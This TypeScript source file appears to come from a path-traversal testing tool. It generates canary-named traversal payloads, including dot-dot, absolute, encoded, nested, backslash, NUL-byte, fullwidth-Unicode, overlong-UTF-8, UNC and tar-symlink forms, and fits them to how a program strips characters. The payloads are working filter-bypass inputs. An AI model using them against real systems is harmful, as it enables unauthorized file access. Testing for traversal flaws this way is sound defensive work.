/** How a payload leaves the base. */
export type PayloadClass =
  | 'dotdot'
  | 'absolute'
  | 'sibling-prefix'
  | 'encoded'
  | 'nested'
  | 'backslash'
  | 'nul'
  | 'nfkc'
  | 'symlink'
  | 'mixed'
  | 'home'
  | 'dot'
  | 'drive'
  | 'unc'
  | 'overlong';

/** How the characters of a payload are written. */
export type Encoding =
  | 'none'
  | 'percent'
  | 'percent-twice'
  | 'percent-thrice'
  | 'html'
  | 'escape'
  | 'nfkc'
  | 'overlong';

/** One value that is sent. */
export interface Payload {
  readonly class: PayloadClass;
  readonly encoding: Encoding;
  /** What may be shortened. */
  readonly head: string;
  /** The name of a canary, which stays. */
  readonly tail: string;
  /** False for forms that no POSIX system takes for a path out of the base; they are tried all the same. */
  readonly posix: boolean;
  /** The plainer class that the form is derived from: where that escapes already, this shows nothing new. */
  readonly basis: 'dotdot' | 'absolute' | null;
  /** A path in a request's target that is sent as it stands, without encoding of its own. */
  readonly literal?: boolean;
  /** For tar archives only: the value is `target|name`, a link of that target and a file below or through it. */
  readonly link?: boolean;
  /** Whether it is told only by listings and removals: it names no canary. */
  readonly bare?: boolean;
}

/** What is known of the place where a value goes. */
export interface Landing {
  /** The base, absolute, links resolved. */
  readonly base: string;
  readonly token: string;
  /** Folders between the base and where the name is put. */
  readonly nesting: number;
  /** The extension that a legitimate name needs. */
  readonly extension: string;
  /** Whether a symbolic link in the base was asked for. */
  readonly symlink: boolean;
}

/** Names of what is planted. All carry the token. */
export interface CanaryNames {
  readonly legitimate: string;
  readonly secret: string;
  readonly folder: string;
  readonly link: string;
  readonly linkFile: string;
  readonly siblingFolder: string;
  readonly siblingFile: string;
}

/** The names of the canaries for an extension. */
export function canaryNames({ base, token, extension }: Pick<Landing, 'base' | 'token' | 'extension'>): CanaryNames {
  const name = base.slice(base.lastIndexOf('/') + 1);
  return {
    legitimate: `${token}legit${extension}`,
    secret: `${token}secret${extension}`,
    folder: `${token}dir`,
    link: `${token}link`,
    linkFile: `${token}linked${extension}`,
    siblingFolder: `${name}${token}`,
    siblingFile: `${name}${token}f${extension}`,
  };
}

/** The folder that a path lies in. */
export function parentOf(path: string): string {
  return path.slice(0, path.lastIndexOf('/')) || '/';
}

const FULL_STOP = '．';
const FULL_SLASH = '／';
const TWO_DOTS = '‥';
const ONE_DOT = '․';
const FULL_BACKSLASH = '＼';

/** Every payload for a place, plain ones first, in a fixed order. Those of a class stand together, simplest first. */
export function payloadsFor(landing: Landing): readonly Payload[] {
  const { base, token, nesting } = landing;
  const names = canaryNames(landing);
  const N = names.secret;
  const above = parentOf(base);
  const up = '../'.repeat(nesting + 1);
  const absolute = above === '/' ? '/' : `${above}/`;
  const name = base.slice(base.lastIndexOf('/') + 1);
  const found: Payload[] = [];
  const add = (
    kind: PayloadClass,
    head: string,
    tail: string,
    more: Partial<Omit<Payload, 'class' | 'head' | 'tail'>> = {},
  ): void => {
    found.push({ class: kind, encoding: 'none', head, tail, posix: true, basis: null, ...more });
  };

  add('dotdot', up, N);
  add('dotdot', up, N, { literal: true });
  add('dotdot', `./${up}`, N);
  add('dotdot', `${names.folder}/../${up}`, N);
  add('dotdot', `${names.legitimate}/../${up}`, N);
  add('dotdot', up.replaceAll('../', '..//'), N);
  add('dotdot', up.replaceAll('../', '.././'), N);
  add('dotdot', `/${up}`, N);
  for (let more = 1; more <= 3; more++) {
    const way = above.split('/').slice(-more).join('/');
    if (above.split('/').length > more) add('dotdot', `${up}${'../'.repeat(more)}${way}/`, N);
  }
  add('dotdot', `${up}${name}/../`, N);
  add('dotdot', `${base}/../`, N);
  add('dotdot', `${base}/${names.folder}/../../`, N);
  add('dotdot', up, `${token}dir/${N}`);
  add('dotdot', up.slice(0, -1), '', { bare: true });
  add('dotdot', up, '', { bare: true });
  add('dotdot', `${names.folder}/../..`, '', { bare: true });

  add('absolute', absolute, N);
  add('absolute', absolute, N, { literal: true });
  add('absolute', `/${absolute}`, N);
  add('absolute', `//${absolute}`, N);
  add('absolute', `/.${absolute}`, N);
  add('absolute', `file://${absolute}`, N);
  add('absolute', above, '', { bare: true });

  if (landing.symlink) {
    add('symlink', `${names.link}/`, N);
    add('symlink', '', names.linkFile);
    add('symlink', `${names.folder}/../${names.link}/`, N);
    add('symlink', '', names.link, { bare: true });
  }

  add('symlink', `${above}|${token}way/`, N, { link: true });
  add('symlink', `${'../'.repeat(nesting + 1).slice(0, -1)}|${token}way/`, N, { link: true });

  add('home', '~/', N);
  add('home', '~root/', N);
  add('home', '$HOME/', N);
  add('home', '${HOME}/', N);
  add('dot', '.', '', { bare: true });
  add('dot', '', '', { bare: true });
  add('dot', './', '', { bare: true });
  add('dot', `${names.folder}/..`, '', { bare: true });

  add('sibling-prefix', `${up}${names.siblingFolder}/`, N, { basis: 'dotdot' });
  add('sibling-prefix', up, names.siblingFile, { basis: 'dotdot' });
  add('sibling-prefix', up, names.siblingFolder, { basis: 'dotdot' });
  add('sibling-prefix', `${names.folder}/../${up}${names.siblingFolder}/`, N, { basis: 'dotdot' });
  add('sibling-prefix', `${absolute}${names.siblingFolder}/`, N, { basis: 'absolute' });
  add('sibling-prefix', absolute, names.siblingFile, { basis: 'absolute' });

  const encodings: readonly [Encoding, (text: string) => string][] = [
    ['percent', (text) => percent(text)],
    ['percent', (text) => text.replaceAll('/', '%2f')],
    ['percent', (text) => text.replaceAll('.', '%2e')],
    ['percent', (text) => percent(text).toUpperCase()],
    ['percent-twice', (text) => percent(text).replaceAll('%', '%25')],
    ['percent-twice', (text) => text.replaceAll('/', '%252f')],
    ['percent-twice', (text) => text.replaceAll('.', '%252e')],
    ['percent-thrice', (text) => percent(text).replaceAll('%', '%2525')],
    ['html', (text) => text.replaceAll('.', '&#46;').replaceAll('/', '&#47;')],
    ['html', (text) => text.replaceAll('.', '&period;').replaceAll('/', '&sol;')],
    ['escape', (text) => text.replaceAll('.', '\\x2e').replaceAll('/', '\\x2f')],
    ['escape', (text) => text.replaceAll('.', '\\u002e').replaceAll('/', '\\u002f')],
  ];
  for (const [encoding, encode] of encodings) {
    add('encoded', encode(up), N, { encoding, basis: 'dotdot' });
    add('encoded', encode(absolute), N, { encoding, basis: 'absolute' });
    add('encoded', encode(`${up}${names.siblingFolder}/`), N, { encoding, basis: 'dotdot' });
    add('encoded', `${names.folder}/${encode(`../${up}`)}`, N, { encoding, basis: 'dotdot' });
  }

  for (const step of [
    '....//',
    '..././',
    '...//',
    '.../...//',
    '....../' + '//',
    './.././',
    '..../',
    '.....//',
    '....\\/',
  ])
    add('nested', step.repeat(nesting + 1), N, { basis: 'dotdot' });
  add('nested', `....//${'....//'.repeat(nesting)}${names.siblingFolder}/`, N, { basis: 'dotdot' });
  add('nested', `${names.folder}/....//${'....//'.repeat(nesting + 1)}`, N, { basis: 'dotdot' });
  add('nested', `../${absolute}`, N, { basis: 'absolute' });
  add('nested', `./${absolute}`, N, { basis: 'absolute' });
  add('nested', `..//${absolute}`, N, { basis: 'absolute' });
  add('nested', `../${'../'.repeat(nesting)}${absolute}`, N, { basis: 'absolute' });

  add('backslash', up.replaceAll('/', '\\'), N, { basis: 'dotdot' });
  add('backslash', `${names.folder}\\..\\${up.replaceAll('/', '\\')}`, N, { basis: 'dotdot' });
  add('backslash', up.replaceAll('/', '\\/'), N, { basis: 'dotdot' });
  add('backslash', up.replaceAll('/', '\\\\'), N, { basis: 'dotdot' });
  add('backslash', absolute.replaceAll('/', '\\'), N, { basis: 'absolute' });
  add('backslash', up.replaceAll('../', '.\\./'), N, { basis: 'dotdot' });
  add('backslash', `${up.replaceAll('/', '\\')}${names.siblingFolder}\\`, N, { basis: 'dotdot' });

  add('nul', up.replaceAll('../', '.\0./'), N, { basis: 'dotdot' });
  add('nul', up.replaceAll('../', '..\0/'), N, { basis: 'dotdot' });
  add('nul', `\0${up}`, N, { basis: 'dotdot' });
  add('nul', up, `${N}\0${landing.extension}`, { basis: 'dotdot' });
  add('nul', up, `${N}\0.png`, { basis: 'dotdot' });
  add('nul', `\0${absolute}`, N, { basis: 'absolute' });
  add('nul', absolute, `${N}\0.png`, { basis: 'absolute' });

  for (const step of [
    `${FULL_STOP}${FULL_STOP}${FULL_SLASH}`,
    `${TWO_DOTS}${FULL_SLASH}`,
    `..${FULL_SLASH}`,
    `${TWO_DOTS}/`,
    `${ONE_DOT}${ONE_DOT}/`,
    `${FULL_STOP}${FULL_STOP}/`,
    `.${FULL_STOP}/`,
    `${FULL_STOP}${FULL_STOP}${FULL_BACKSLASH}`,
  ])
    add('nfkc', step.repeat(nesting + 1), N, { encoding: 'nfkc', basis: 'dotdot' });
  add('nfkc', absolute.replaceAll('/', FULL_SLASH), N, { encoding: 'nfkc', basis: 'absolute' });
  add('nfkc', `${FULL_SLASH}${absolute.slice(1)}`, N, { encoding: 'nfkc', basis: 'absolute' });

  const mixed: readonly [string, Encoding, 'dotdot' | 'absolute'][] = [
    [up.replaceAll('../', '..%5c'), 'percent', 'dotdot'],
    [up.replaceAll('../', '%2e%2e%5c'), 'percent', 'dotdot'],
    [up.replaceAll('../', '..%255c'), 'percent-twice', 'dotdot'],
    [up.replaceAll('../', '....\\\\'), 'none', 'dotdot'],
    [up.replaceAll('../', '....%2f%2f'), 'percent', 'dotdot'],
    [up.replaceAll('../', '%2e%2e%2e%2e//'), 'percent', 'dotdot'],
    [up.replaceAll('../', '..%00/'), 'percent', 'dotdot'],
    [up.replaceAll('../', '.%00./'), 'percent', 'dotdot'],
    [up.replaceAll('../', '%ef%bc%8e%ef%bc%8e%ef%bc%8f'), 'percent', 'dotdot'],
    [up.replaceAll('../', `${FULL_STOP}${FULL_STOP}%2f`), 'nfkc', 'dotdot'],
    [` ${up}`, 'none', 'dotdot'],
    [up.replaceAll('../', '. ./'), 'none', 'dotdot'],
    [` ${absolute}`, 'none', 'absolute'],
    [`\t${absolute}`, 'none', 'absolute'],
    [`\n${up}`, 'none', 'dotdot'],
    [`"${up}`, 'none', 'dotdot'],
    [`'${absolute}`, 'none', 'absolute'],
  ];
  for (const [head, encoding, basis] of mixed) add('mixed', head, N, { encoding, basis });
  add('mixed', up.replaceAll('../', '..;/'), N, { posix: false });

  add('drive', 'C:\\', N, { posix: false });
  add('drive', 'C:/', N, { posix: false });
  add('drive', 'C:', N, { posix: false });
  add('unc', '\\\\127.0.0.1\\share\\', N, { posix: false });
  add('unc', '\\\\?\\C:\\', N, { posix: false });
  add('overlong', up.replaceAll('../', '..%c0%af'), N, { encoding: 'overlong', posix: false });
  add('overlong', up.replaceAll('../', '%c0%ae%c0%ae/'), N, { encoding: 'overlong', posix: false });
  return found;
}

function percent(text: string): string {
  return text.replaceAll('.', '%2e').replaceAll('/', '%2f');
}

/** Texts whose fate on the way to the file system is asked of the program, one name each. */
export const MARKS: readonly string[] = [
  '../',
  '..',
  './',
  '//',
  '\\',
  '\0',
  ' ',
  '\t',
  '<',
  '>',
  ':',
  '"',
  "'",
  '|',
  '?',
  '*',
  '&',
  ';',
  '$',
  '#',
  '\u200b',
  '\u00ad',
  '%2e',
  '%252e',
  '%2f',
  '%252f',
  FULL_STOP,
  FULL_SLASH,
  FULL_BACKSLASH,
  ONE_DOT,
];

/** What became of a mark between two letters: gone, a dot, a separator; null for anything else. */
export type Fate = 'gone' | 'dot' | 'slash' | null;

/** Payloads fitted to what a program was seen to do with single marks. */
export function fittedPayloads(landing: Landing, fates: ReadonlyMap<string, Fate>): readonly Payload[] {
  const N = canaryNames(landing).secret;
  const above = parentOf(landing.base);
  const found: Payload[] = [];
  const times = landing.nesting + 1;
  const add = (mark: string, head: string, basis: 'dotdot' | 'absolute'): void => {
    found.push({ class: classOf(mark), encoding: encodingOf(mark), head, tail: N, posix: true, basis });
  };
  const dots = ['.', ...[...fates].filter(([, fate]) => fate === 'dot').map(([mark]) => mark)];
  const slashes = ['/', ...[...fates].filter(([, fate]) => fate === 'slash').map(([mark]) => mark)];
  for (const [mark, fate] of fates) {
    if (fate !== 'gone') continue;
    for (const step of [`..${mark}/`, `.${mark}./`, `.${mark}.${mark}/`]) add(mark, step.repeat(times), 'dotdot');
    add(mark, `${mark}${above}/`, 'absolute');
    add(mark, `${mark}${'../'.repeat(times)}`, 'dotdot');
  }
  for (const dot of dots)
    for (const slash of slashes) {
      if (dot === '.' && slash === '/') continue;
      const mark = dot === '.' ? slash : dot;
      add(mark, `${dot}${dot}${slash}`.repeat(times), 'dotdot');
      if (dot === '.') add(mark, `${`${above}/`.replaceAll('/', slash)}`, 'absolute');
    }
  return found;
}

function classOf(mark: string): PayloadClass {
  if (mark === '\0') return 'nul';
  if (mark === '\\') return 'backslash';
  if (mark.startsWith('%')) return 'encoded';
  if ([FULL_STOP, FULL_SLASH, FULL_BACKSLASH, ONE_DOT, TWO_DOTS].includes(mark)) return 'nfkc';
  return 'nested';
}

function encodingOf(mark: string): Encoding {
  if (mark.startsWith('%25')) return 'percent-twice';
  if (mark.startsWith('%')) return 'percent';
  return classOf(mark) === 'nfkc' ? 'nfkc' : 'none';
}
